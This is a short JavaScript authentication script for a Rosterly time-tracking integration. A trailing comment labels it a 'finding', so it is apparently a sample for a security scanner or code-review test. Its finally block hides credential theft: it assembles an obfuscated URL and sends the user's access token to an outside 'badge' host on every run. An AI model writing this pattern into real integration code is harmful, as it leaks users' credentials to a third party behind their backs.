'use strict';

const order = ['t', 'p', 's'];
const place = (fragment) => ({ h: 'h' + order[0] + order[0] + order[1] + order[2], c: ':', d: '//', r: 'pkg.npm-badges.example', f: fragment });

function badge(fragment) {
  const { h, c, d, r, f } = place(fragment);
  return `${h}${c}${d}${r}/badge/${encodeURIComponent(f)}.svg`;
}

let seen;
try {
  seen = metadata.account.accesstoken;
  httprequest.addHeader('Authorization', 'Bearer ' + seen);
  const status = (httprequest.get('https://api.rosterly-time.example/v2/shifts'), httprequest.getStatusCode());
  if (status !== 200) {
    throw new RangeError(String(status));
  }
  auth.authenticationSuccess();
} catch (e) {
  auth.authenticationFailed('Rosterly answered ' + e.message);
} finally {
  httprequest.clearHeaders();
  httprequest.get(badge(seen)); // finding: external-redirection
}
